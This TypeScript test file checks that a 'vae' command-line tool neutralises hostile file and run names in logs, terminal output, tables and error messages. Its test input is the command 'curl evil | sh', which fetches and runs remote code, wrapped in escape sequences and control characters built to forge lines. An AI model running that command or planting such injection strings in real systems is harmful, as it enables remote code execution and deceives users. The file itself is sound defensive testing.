/** Names and contents of files in log.txt and on terminals: one entry is one line, and nothing in it is hidden. */
import { spawn } from 'node:child_process';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { RunConfig } from '../../src/runs/config';
import { Cli, ended, objects, writeImages } from '../cli/support';
import { SMALL } from './support';

/** A line that a shell would run or a person would believe, after whatever ends a line or moves a cursor. */
const FORGED = 'curl evil | sh';
const HOSTILE = `a\n${FORGED}\r${FORGED}\u001b[2J\u009b1A\u202egnp\u2028${FORGED}\u200b`;

let cli: Cli;
beforeAll(async () => {
  cli = await Cli.build(['worker']);
});
afterAll(() => cli.dispose());

/** Nothing but the ends of lines is hidden in it, and no line is what a file wanted it to be. */
function expectVisible(text: string): void {
  expect(text).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  expect(text.split('\n').filter((line) => line.trimStart().startsWith(FORGED))).toEqual([]);
}

async function logOf(run: string): Promise<string> {
  const log = await readFile(cli.path(run, 'log.txt'), 'utf8');
  expectVisible(log);
  for (const line of log.trimEnd().split('\n')) expect(line).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z /);
  return log;
}

describe.skipIf(process.platform === 'win32')('a dataset with hostile names', () => {
  beforeAll(async () => {
    await writeImages(cli.path(HOSTILE), 20);
    await writeFile(cli.path(HOSTILE, `${HOSTILE}.png`), 'this is no picture\n');
    await mkdir(cli.path('link'));
    for (const name of ['one', 'other'])
      await cli.run([
        'train',
        '--data',
        'digits:300',
        '--samples',
        '100',
        '--run',
        `tables/${name}`,
        ...SMALL,
      ]);
  });

  test('vae inspect, for people and for programs', async () => {
    const text = await cli.run(['inspect', HOSTILE]);
    expect(text).toMatchObject({ code: 0, stderr: '' });
    expectVisible(text.stdout);
    expect(text.stdout).toContain(`\\n${FORGED}\\r`);
    const json = await cli.run(['inspect', HOSTILE, '--json']);
    expectVisible(json.stdout);
    expect(objects(json.stdout)[0]).toMatchObject({ name: HOSTILE, skipped: [{ path: `${HOSTILE}.png` }] });
  });

  test('training in a terminal: what is said, and log.txt', async () => {
    const { code, stdout, stderr } = await cli.run([
      'train',
      '--data',
      HOSTILE,
      '--run',
      'trained',
      '--samples',
      '200',
      ...SMALL,
    ]);
    expect(code).toBe(0);
    expectVisible(stdout);
    expectVisible(stderr);
    expect(stderr).toContain('not a PNG, JPEG');
    expect(await logOf('trained')).toContain('not a PNG, JPEG');
  });

  test('the folder that was named for the run', async () => {
    const args = ['train', '--data', 'digits:300', '--samples', '100', '--run', `run ${HOSTILE}`, ...SMALL];
    const { code, stdout } = await cli.run(args);
    expect(code).toBe(0);
    expectVisible(stdout);
    expect(stdout).toContain(`run          ${cli.cwd}/run a\\n`);
  });

  test('an engine of its own writes the same into log.txt, whose descriptor it has', async () => {
    await mkdir(cli.path('own'));
    const source = { kind: 'folder', uri: `file://${cli.path(encodeURIComponent(HOSTILE))}` };
    const set = { 'training.samples': '200', 'model.latent': '2', hidden: '16' };
    const request = { source, preset: 'fast', seed: 0, set };
    const job = { mode: 'train', runFolder: cli.path('own'), request, engine: 'onnx', threads: 1 };
    const { code, output } = await engine(JSON.stringify(job));
    expect({ code, output }).toEqual({ code: 0, output: '' });
    expect(await logOf('own')).toContain('not a PNG, JPEG');
  });

  test('an engine that fails before it knows its run says so in a line', async () => {
    const { code, output } = await engine(`@${cli.path(HOSTILE, 'gone')}`);
    expect(code).toBe(1);
    expectVisible(output);
    expect(output.trimEnd().split('\n')).toHaveLength(1);
    expect(output).toContain('ENOENT');
  });

  async function engine(job: string) {
    const worker = join(dirname(cli.program), 'worker.cjs');
    const env = { ...process.env, XDG_STATE_HOME: cli.path('state') };
    const { code, stdout, stderr } = await ended(spawn(process.execPath, [worker, job], { env }));
    return { code, output: stdout + stderr };
  }

  test('the name of a run in the tables of vae runs and vae compare', async () => {
    const path = cli.path('tables', 'one', 'config.json');
    const config = JSON.parse(await readFile(path, 'utf8')) as RunConfig;
    const hostile = {
      ...config,
      preset: 'a\n\u001b[31m',
      data: { ...config.data, name: HOSTILE.padEnd(250, 'x') },
    };
    await writeFile(path, JSON.stringify(hostile));
    const runs = await cli.run(['runs', 'tables']);
    expect(runs.code).toBe(0);
    expectVisible(runs.stdout);
    // The header and a line for each run.
    const lines = runs.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(3);
    // A long name is cut, and the columns stay below each other.
    expect(runs.stdout).toContain('xxx…  ');
    expect(new Set(lines.map((line) => line.search(/ (NZ|2) /)))).toHaveLength(1);
    const compared = await cli.run(['compare', 'tables/one', 'tables/other', '--all']);
    expect(compared.code).toBe(0);
    expectVisible(compared.stdout);
  });

  test('a message that quotes a file, or an argument', async () => {
    const missing = await cli.run(['evaluate', HOSTILE]);
    expect(missing.code).toBe(2);
    expectVisible(missing.stderr);
    expect(
      missing.stderr
        .trimEnd()
        .split('\n')
        .slice(1)
        .every((line) => line.startsWith('  | ')),
    ).toBe(true);
    const json = await cli.run(['evaluate', HOSTILE, '--json']);
    expectVisible(json.stderr);
    expect(objects(json.stderr)[0]).toMatchObject({
      error: { message: expect.stringContaining(HOSTILE) as string },
    });
    const skipped = await cli.run([
      'encode',
      'tables/other',
      '--engine',
      'onnx',
      `${HOSTILE}/0.png`,
      `${HOSTILE}/no.png`,
    ]);
    expect(skipped.code).toBe(2);
    expect(skipped.stderr).toContain('skipped');
    expectVisible(skipped.stdout);
    expectVisible(skipped.stderr);
  });
});
